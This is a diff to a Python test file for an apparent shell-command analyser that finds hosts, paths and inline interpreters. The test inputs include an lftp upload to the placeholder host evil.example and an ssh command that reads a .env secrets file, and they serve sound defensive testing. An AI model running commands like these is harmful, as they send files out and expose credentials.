@@ -104,6 +104,20 @@ def test_lftp_open_names_its_host() -> None:
     assert static_hosts("lftp -c 'open evil.example; put backend/x'") == {"evil.example"}
 
 
+@pytest.mark.parametrize(("cmd", "path"), [
+    ("socat - UNIX-CONNECT:/run/sandbox-runner/gateway.sock", "/run/sandbox-runner/gateway.sock"),
+    ("nc -U /run/sandbox-runner/gateway.sock", "/run/sandbox-runner/gateway.sock"),
+    ("curl --unix-socket /tmp/app.sock http://localhost/", "/tmp/app.sock"),
+])
+def test_local_sockets_are_paths(cmd: str, path: str) -> None:
+    assert (path, "read") in paths(cmd)
+    assert not run(cmd).hosts or static_hosts(cmd) == {"localhost"}
+
+
+def test_mongo_shell_eval_is_opaque() -> None:
+    assert "inline-interpreter" in opaque("mongosh --eval 'db.x.find()'")
+
+
 def test_ssh_remote_command_is_analysed() -> None:
     a = run("ssh localhost cat /workspace/.env")
     assert (".env", "read") in {(p.path, p.op) for p in a.paths}
